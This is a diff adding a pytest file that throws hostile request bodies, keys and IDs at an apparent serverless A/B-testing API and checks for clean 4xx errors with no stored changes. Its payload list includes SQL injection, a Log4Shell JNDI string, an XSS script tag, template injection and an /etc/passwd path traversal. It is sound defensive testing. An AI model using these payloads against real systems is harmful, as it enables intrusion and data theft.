@@ -1,0 +1,289 @@
+"""A corpus of hostile inputs, each sent to the routes it targets: every one gets its 4xx in the one
+error shape, and leaves the tables exactly as they were."""
+
+import base64
+import json
+
+import boto3
+import pytest
+
+from tests.conftest import ADMIN_KEY, TOKEN, answer, invoke, sample_event
+
+TEN_MB = 10 * 1024 * 1024
+INJECTIONS = [
+    "'; DROP TABLE experiments; --",
+    '" OR 1=1 --',
+    "{{7*7}}",
+    "${jndi:ldap://example.com/a}",
+    "<script>alert(1)</script>",
+    "../../etc/passwd",
+    "a#b",
+    "project#other",
+    "é-ü",
+    "\u202eevil",
+    "",
+]
+
+
+def deep(levels: int) -> str:
+    return "[" * levels + "]" * levels
+
+
+def experiment(**fields) -> dict:
+    spec = {
+        "key": "checkout",
+        "name": "Checkout",
+        "variants": [{"key": "control", "weight": 50}, {"key": "b", "weight": 50}],
+        "primary_metric": {"event": "purchase"},
+    }
+    return {**spec, **fields}
+
+
+def events(*batch, token=TOKEN) -> dict:
+    return {"token": token, "events": list(batch)}
+
+
+def event(**fields) -> dict:
+    return {"event": "purchase", "distinct_id": "user-1", **fields}
+
+
+# (id, sample event, function, raw body or JSON body, status, field named)
+BODIES = [
+    ("invalid UTF-8 events", "post_events", "IngestFunction", b'{"token": "\xff\xfe"}', 400, "body"),
+    ("invalid UTF-8 experiment", "create_experiment", "AssignFunction", b"\xc3\x28{", 400, "body"),
+    ("invalid UTF-8 capture", "posthog_batch", "IngestFunction", b"\xff\xff\xff", 400, "body"),
+    ("10 MB events", "post_events", "IngestFunction", b'{"token": "' + b"a" * TEN_MB + b'"}', 413, "body"),
+    ("10 MB capture", "posthog_capture", "IngestFunction", b"[" + b"{}," * (TEN_MB // 3) + b"{}]", 413, "body"),
+    ("10 MB assign", "assign", "AssignFunction", b" " * TEN_MB, 413, "body"),
+    ("deep nesting events", "post_events", "IngestFunction", deep(100_000).encode(), 400, "body"),
+    ("deep nesting capture", "posthog_e", "IngestFunction", deep(100_000).encode(), 400, "body"),
+    ("deep nesting experiment", "create_experiment", "AssignFunction", deep(100_000).encode(), 400, "body"),
+    (
+        "deep properties",
+        "post_events",
+        "IngestFunction",
+        json.dumps(events(event(properties={"a": json.loads(deep(600))}))).encode(),
+        200,
+        None,
+    ),
+    ("NaN", "post_events", "IngestFunction", b'{"token": "t", "events": [{"properties": {"v": NaN}}]}', 400, "body"),
+    (
+        "Infinity",
+        "assign",
+        "AssignFunction",
+        b'{"token": "t", "distinct_id": "u", "properties": {"x": -Infinity}}',
+        400,
+        "body",
+    ),
+    (
+        "huge float",
+        "create_experiment",
+        "AssignFunction",
+        json.dumps(experiment()).replace("50", "1e999", 1).encode(),
+        400,
+        "body",
+    ),
+    (
+        "huge integer",
+        "posthog_batch",
+        "IngestFunction",
+        b'{"api_key": "t", "batch": [{"offset": 1' + b"0" * 5000 + b"}]}",
+        400,
+        "body",
+    ),
+    (
+        "integer weight overflow",
+        "create_experiment",
+        "AssignFunction",
+        experiment(variants=[{"key": "control", "weight": 10**300}, {"key": "b", "weight": 50}]),
+        422,
+        "variants[0].weight",
+    ),
+    ("null body", "post_events", "IngestFunction", b"null", 422, "body"),
+    ("null token", "post_events", "IngestFunction", {"token": None, "events": [event()]}, 422, "token"),
+    ("null events", "post_events", "IngestFunction", {"token": TOKEN, "events": None}, 422, "events"),
+    ("null distinct_id", "assign", "AssignFunction", {"token": TOKEN, "distinct_id": None}, 422, "distinct_id"),
+    ("null everything", "create_experiment", "AssignFunction", dict.fromkeys(experiment()), 422, "name"),
+    ("null variant", "create_experiment", "AssignFunction", experiment(variants=[None, None]), 422, "variants[0]"),
+    ("null in a patch", "update_experiment", "AssignFunction", {"name": None}, 422, "name"),
+    ("null capture", "posthog_capture", "IngestFunction", b"null", 400, "body"),
+    ("null batch", "posthog_batch", "IngestFunction", {"api_key": TOKEN, "batch": None}, 400, "batch"),
+    ("a list as capture properties", "posthog_capture", "IngestFunction", [{"properties": [1, 2]}], 401, "api_key"),
+    ("number as body", "assign", "AssignFunction", b"42", 422, "body"),
+    (
+        "oversized offset",
+        "posthog_capture",
+        "IngestFunction",
+        {"api_key": TOKEN, "event": "e", "distinct_id": "u", "offset": 10**20},
+        200,
+        None,
+    ),
+    (
+        "huge targeting list",
+        "create_experiment",
+        "AssignFunction",
+        experiment(targeting=[{"conditions": [{"property": "p", "operator": "in", "value": list(range(5000))}]}]),
+        422,
+        "targeting[0].conditions[0].value",
+    ),
+    (
+        "event properties over 64 KB",
+        "post_events",
+        "IngestFunction",
+        events(event(properties={"blob": "x" * 70_000})),
+        200,
+        None,
+    ),
+    *[
+        (f"experiment key {text!r}", "create_experiment", "AssignFunction", experiment(key=text), 422, "key")
+        for text in INJECTIONS
+    ],
+    *[
+        (f"token {text!r}", "post_events", "IngestFunction", events(event(), token=text), 401 if text else 422, "token")
+        for text in INJECTIONS
+    ],
+    *[
+        (
+            f"assign experiments [{text!r}]",
+            "assign",
+            "AssignFunction",
+            {"token": TOKEN, "distinct_id": "u", "experiments": [text]},
+            422,
+            "experiments[0]",
+        )
+        for text in INJECTIONS
+    ],
+]
+
+
+def everything_stored() -> dict[str, list]:
+    client = boto3.client("dynamodb", region_name="us-east-1")
+    stored = {}
+    for table in client.list_tables()["TableNames"]:
+        items = client.scan(TableName=table)["Items"]
+        stored[table] = sorted(json.dumps(item, sort_keys=True) for item in items)
+    return stored
+
+
+def with_body(name: str, body) -> dict:
+    event = sample_event(name)
+    if isinstance(body, bytes):
+        event["body"], event["isBase64Encoded"] = base64.b64encode(body).decode(), True
+    else:
+        event["body"], event["isBase64Encoded"] = json.dumps(body), False
+    return event
+
+
+@pytest.fixture
+def draft(project):
+    status, _ = answer(invoke("AssignFunction", with_body("create_experiment", experiment(key="new-checkout"))))
+    assert status == 201
+
+
+@pytest.mark.parametrize(
+    ("sample", "function", "body", "status", "field"), [case[1:] for case in BODIES], ids=[case[0] for case in BODIES]
+)
+def test_hostile_body_gets_its_4xx_and_leaves_no_trace(draft, sample, function, body, status, field):
+    before = everything_stored()
+    got, error = answer(invoke(function, with_body(sample, body)))
+    assert got == status, error
+    if status >= 400:
+        assert set(error) == {"error"} and {"code", "message"} <= set(error["error"])
+        assert error["error"].get("field") == field, error
+        assert everything_stored() == before
+    else:  # accepted as a request, but the hostile event in it is refused on its own
+        assert error["accepted"] == 0 and len(error["rejected"]) == 1, error
+        assert everything_stored() == before
+
+
+@pytest.mark.parametrize("key", [*INJECTIONS, "%23", "a%2Fb", "x" * 2000])
+def test_hostile_experiment_keys_in_paths_are_not_found(draft, key):
+    before = everything_stored()
+    for name, function in [
+        ("get_experiment", "AssignFunction"),
+        ("launch_experiment", "AssignFunction"),
+        ("get_results", "ResultsFunction"),
+    ]:
+        event = sample_event(name)
+        path = event["rawPath"].replace("new-checkout", key)
+        event["rawPath"] = event["requestContext"]["http"]["path"] = path
+        event["pathParameters"] = {"key": key}
+        status, error = answer(invoke(function, event))
+        assert status == 404 and error["error"]["code"] == "not_found", (name, error)
+    assert everything_stored() == before
+
+
+@pytest.mark.parametrize("distinct_id", ["user#1", "test#user#2", "用户", "'; DROP TABLE assignments; --", "{{7*7}}"])
+def test_unusual_distinct_ids_are_stored_as_they_are_and_never_collide(project, distinct_id):
+    """Any string is a valid distinct_id (PostHog's are): it is kept verbatim, scoped by project."""
+    from abacus import projects
+
+    other = projects.create("Other", project_id="test2", token="phc_other", admin_key="abacus_other")
+    for token in (TOKEN, other["token"]):
+        status, body = answer(
+            invoke("IngestFunction", with_body("post_events", events(event(distinct_id=distinct_id), token=token)))
+        )
+        assert (status, body["accepted"]) == (200, 1)
+    users = {
+        item["distinct_id"]["S"]
+        for item in boto3.client("dynamodb", region_name="us-east-1").scan(TableName="EventsTable")["Items"]
+    }
+    assert users == {distinct_id}
+    stored = boto3.client("dynamodb", region_name="us-east-1").scan(TableName="EventsTable")["Items"]
+    assert len({item["user_id"]["S"] for item in stored}) == 2
+
+
+def test_an_injection_in_a_name_is_stored_verbatim_and_escaped_in_the_report(project):
+    name = "<script>alert(1)</script> {{7*7}} '; DROP TABLE x; --"
+    status, created = answer(
+        invoke("AssignFunction", with_body("create_experiment", experiment(key="new-checkout", name=name)))
+    )
+    assert status == 201 and created["name"] == name
+    event = sample_event("get_report")
+    response = invoke("ResultsFunction", event)
+    assert response["statusCode"] == 200
+    assert "<script>alert(1)</script>" not in response["body"]
+    assert "&lt;script&gt;alert(1)&lt;/script&gt; {{7*7}}" in response["body"]
+
+
+def test_unknown_query_parameters_are_refused_naming_them(project):
+    event = sample_event("list_experiments")
+    event["queryStringParameters"] = {"limt": "10"}
+    status, error = answer(invoke("AssignFunction", event))
+    assert status == 422 and error["error"]["field"] == "limt"
+    event["headers"].pop("authorization")
+    status, error = answer(invoke("AssignFunction", event))
+    assert status == 401, "credentials are checked first"
+
+
+def test_posthog_routes_take_whatever_query_the_sdks_add(project):
+    event = sample_event("posthog_e")
+    event["queryStringParameters"] = {"ip": "1", "_": "1795608000000", "ver": "1.200.0", "compression": "none"}
+    status, body = answer(invoke("IngestFunction", event))
+    assert status == 200, body
+
+
+def test_admin_key_is_not_accepted_where_a_token_belongs(project):
+    status, error = answer(invoke("IngestFunction", with_body("post_events", events(event(), token=ADMIN_KEY))))
+    assert status == 403 and error["error"]["field"] == "token"
+
+
+def test_an_experiment_over_dynamodbs_item_limit_is_a_413_and_stays_as_it_was(project):
+    overrides = {f"{'u' * 190}{n:04d}": "b" for n in range(900)}  # about 180 KB
+    status, _ = answer(
+        invoke("AssignFunction", with_body("create_experiment", experiment(key="new-checkout", overrides=overrides)))
+    )
+    assert status == 201
+    before = everything_stored()
+    # The change is recorded with its old and new values: the item would pass 400 KB.
+    changed = {user: "control" for user in overrides}
+    status, error = answer(invoke("AssignFunction", with_body("update_experiment", {"overrides": changed})))
+    assert status == 413 and error["error"]["field"] == "body", error
+    assert everything_stored() == before
+
+
+def test_a_project_id_cannot_hold_the_key_separator():
+    from abacus import projects
+
+    with pytest.raises(ValueError, match="project id"):
+        projects.create("Bad", project_id="a#b")
